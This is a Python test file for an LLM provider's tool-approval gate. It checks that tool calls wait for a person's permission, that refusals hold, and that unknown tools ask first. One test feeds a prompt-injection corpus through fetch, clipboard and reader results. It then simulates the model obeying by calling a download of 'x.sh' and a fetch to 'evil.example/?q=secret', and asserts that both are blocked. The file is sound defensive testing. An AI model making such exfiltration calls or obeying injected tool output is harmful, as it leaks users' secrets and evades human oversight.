"""No tool runs without the permission that a person has given it, and no wait for their word is endless."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from amplifier_core.models import HookResult

from webllm_provider.session.permissions import Permissions
from webllm_provider.testing import Wait, answer

from .worker_page import Page, call

pytestmark = pytest.mark.filterwarnings("error")

ASKING = {"permissions": {"notes": "ask"}}
ADD = call("notes", action="add", text="tea")
CORPUS = json.loads((Path(__file__).parents[1] / "injections.json").read_text(encoding="utf-8"))
EVERY = pytest.mark.parametrize("text", [one["text"] for one in CORPUS], ids=[one["what"] for one in CORPUS])


def result_of(end: dict[str, Any]) -> str:
    """What the model read of the turn's one call."""
    (text,) = [message["content"] for message in end["messages"] if message["role"] == "tool"]
    return str(text)


async def say(page: Page, choice: str, answered: int) -> None:
    """Answer every question behind the first `answered`, as it comes."""
    while True:
        answered += 1
        page.approve((await page.next("approval_asked", answered))["approval"], choice)


@pytest.mark.parametrize(
    ("choice", "ran"), [("once", True), ("conversation", True), ("deny", False), ("never", False)]
)
async def test_a_call_waits_for_a_persons_word(choice: str, ran: bool) -> None:
    page = Page(ADD, answer("Done."))
    turn = page.asking("t1", settings=ASKING)
    asked = await page.next("approval_asked")
    assert (asked["id"], asked["tool"], asked["arguments"]) == (
        "t1",
        "notes",
        {"action": "add", "text": "tea"},
    )
    assert asked["question"] == "May the tool notes run?"
    assert page.of("tool:post") == []
    page.approve(asked["approval"], choice)
    end = await turn
    assert end["text"] == "Done."
    assert bool(page.of("tool:post")) is ran
    assert ("denied" in result_of(end)) is not ran
    granted = page.of("approval:granted" if ran else "approval:denied")
    assert [(one["tool_name"], one["choice"]) for one in granted] == [("notes", choice)]
    await page.sessions.close()


@pytest.mark.parametrize(
    ("choice", "questions"), [("once", 3), ("conversation", 1), ("deny", 3), ("never", 1)]
)
async def test_a_word_holds_as_long_as_it_was_meant_to(choice: str, questions: int) -> None:
    page = Page(ADD, ADD, answer("Done."), ADD, answer("Done."))
    for number, id in enumerate(("t1", "t2")):
        turn = page.asking(id, settings=ASKING)
        saying = asyncio.ensure_future(say(page, choice, page.types().count("approval_asked")))
        assert (await turn)["text"] == "Done.", number
        saying.cancel()
    assert page.types().count("approval_asked") == questions
    await page.sessions.close()


async def test_a_forbidden_tool_is_denied_without_a_question_and_the_model_can_read_why() -> None:
    page = Page(ADD, answer("I may not."))
    end = await page.ask("t1", settings={"permissions": {"notes": "never"}})
    assert "approval_asked" not in page.types()
    assert result_of(end).endswith("The tool notes is not allowed in this conversation. Answer without it.")
    assert [one["tool_name"] for one in page.of("approval:denied")] == ["notes"]
    await page.sessions.close()


async def test_what_is_harmless_needs_no_word() -> None:
    page = Page(ADD, answer("Done."))
    await page.ask("t1")
    assert "approval_asked" not in page.types()
    assert len(page.of("tool:post")) == 1
    await page.sessions.close()


@pytest.mark.parametrize("how", ["stop", "forget"])
async def test_a_turn_that_ends_withdraws_its_question(how: str) -> None:
    page = Page(ADD, answer("Never."), answer("After."))
    turn = page.asking("t1", settings=ASKING)
    asked = await page.next("approval_asked")
    if how == "stop":
        page.sessions.stop("t1")
    else:
        await page.sessions.forget("c")
    await asyncio.wait({turn}, timeout=20)
    assert turn.done()
    assert page.ended("t1")["outcome"] == "cancelled"
    assert (await page.next("approval_withdrawn"))["approval"] == asked["approval"]
    # A word that comes too late opens nothing.
    page.approve(asked["approval"], "conversation")
    assert page.of("tool:post") == []
    assert page.types().count("approval_withdrawn") == 1
    await page.sessions.close()


async def test_a_turn_after_a_withdrawn_question_works() -> None:
    page = Page(ADD, answer("After."))
    turn = page.asking("t1", settings=ASKING)
    await page.next("approval_asked")
    page.sessions.stop("t1")
    await turn
    assert (await page.ask("t2"))["text"] == "After."
    await page.sessions.close()


async def test_a_word_for_nobody_is_dropped() -> None:
    page = Page(answer("Hi"))
    page.approve("nobody", "once")
    await page.ask("t1")
    page.approve("nobody", "once")
    await page.sessions.close()


async def test_what_a_person_has_agreed_to_is_what_runs() -> None:
    """A hook that changes a call loses its change where somebody is asked: the question shows what runs."""
    page = Page(ADD, answer("Done."))

    async def change(event: str, payload: dict[str, Any]) -> HookResult:
        return HookResult(action="modify", data={**payload, "tool_input": {"action": "list"}})

    await page.run_tool("r1", "todo", {"action": "list"}, settings=ASKING)
    session: Any = page.sessions._conversations["c"].session
    session.coordinator.hooks.register("tool:pre", change, priority=5, name="change")
    turn = page.asking("t1")
    asked = await page.next("approval_asked")
    page.approve(asked["approval"], "once")
    await turn
    assert page.of("tool:post")[-1]["tool_input"] == asked["arguments"]
    await page.sessions.close()


async def test_a_tool_by_a_persons_own_hand_passes_the_same_gate() -> None:
    page = Page()
    turn = asyncio.ensure_future(page.run_tool("r1", "notes", {"action": "list"}, settings=ASKING))
    asked = await page.next("approval_asked")
    page.approve(asked["approval"], "once")
    end = await turn
    assert (end["type"], end["text"], end["messages"]) == ("turn_ended", "There are no notes.", [])
    assert [name for name in ("tool:pre", "tool:post") if page.of(name)] == ["tool:pre", "tool:post"]
    await page.sessions.close()


async def test_a_tool_that_is_not_there_cannot_be_run() -> None:
    page = Page()
    end = await page.run_tool("r1", "rocket", {})
    assert (end["type"], end["error"]["code"]) == ("turn_failed", "invalid_request")
    assert "rocket" in end["error"]["message"]
    await page.sessions.close()


async def test_a_tool_by_hand_can_be_stopped_and_leaves_nothing_in_the_conversation() -> None:
    page = Page(answer("Hello."))
    turn = asyncio.ensure_future(page.run_tool("r1", "notes", {"action": "list"}, settings=ASKING))
    await page.next("approval_asked")
    page.sessions.stop("r1")
    assert (await turn)["outcome"] == "cancelled"
    await page.ask("t1", "Hi")
    assert page.asked_last() == ["Hi"]
    await page.sessions.close()


async def test_a_tool_by_hand_waits_for_the_turn_that_runs() -> None:
    page = Page([*answer("I")[:2], Wait()])
    turn = page.asking("t1")
    await page.until("llm:stream_block_delta")
    tool = asyncio.ensure_future(page.run_tool("r1", "todo", {"action": "list"}))
    for _ in range(20):
        await asyncio.sleep(0)
    assert page.of("tool:pre") == []
    page.sessions.stop("t1")
    await turn
    assert (await tool)["text"] == "The to-do list is empty."
    await page.sessions.close()


@EVERY
@pytest.mark.parametrize("tool", ["fetch", "clipboard", "reader"])
async def test_a_hostile_result_never_causes_an_unapproved_call(tool: str, text: str) -> None:
    """The worst case: the model does all that the page or the clipboard says."""
    arguments: dict[str, dict[str, Any]] = {
        "fetch": {"url": "https://example.org/"},
        "clipboard": {"action": "read"},
        "reader": {},
    }
    brought: dict[str, dict[str, Any]] = {
        "fetch": {"url": "https://example.org/", "status": 200, "type": "text/plain", "text": text},
        "clipboard": {"text": text},
        "reader": {"value": text},
    }
    evil = [call("download", name="x.sh", text="pwned"), call("fetch", url="https://evil.example/?q=secret")]
    page = Page(call(tool, **arguments[tool]), *evil, answer("Read."))
    own = {"name": "reader", "description": "Reads.", "parameters": {"type": "object"}, "source": "..."}
    settings = {"tools": ["tool-fetch", "tool-clipboard", "tool-download"], "custom_tools": [own]}
    turn = page.asking("t1", "Read it.", settings=settings)
    page.approve((await page.next("approval_asked"))["approval"], "once")
    page.answer(await page.next("page_call"), result=brought[tool])
    for number in (2, 3):
        page.approve((await page.next("approval_asked", number))["approval"], "deny")
    await turn
    assert page.types().count("page_call") == 1
    assert [one["tool_name"] for one in page.of("tool:post")] == [tool]
    read = page.transport.bodies[1]["messages"][-1]["content"]
    assert str(read).count("</tool_result>") == 1
    await page.sessions.close()


def test_what_the_settings_forbid_no_word_opens() -> None:
    permissions = Permissions({"fetch": "ask"})
    permissions.remember("fetch", "conversation")
    assert permissions.of("fetch") == "allow"
    permissions.set({"fetch": "never"})
    assert permissions.of("fetch") == "never"
    permissions.set({"fetch": "ask"})
    assert permissions.of("fetch") == "ask"


@pytest.mark.parametrize("tool", ["clipboard", "download", "fetch", "my_tool", "mcp__files__write", ""])
def test_what_is_not_known_to_be_harmless_asks(tool: str) -> None:
    assert Permissions().of(tool) == "ask"
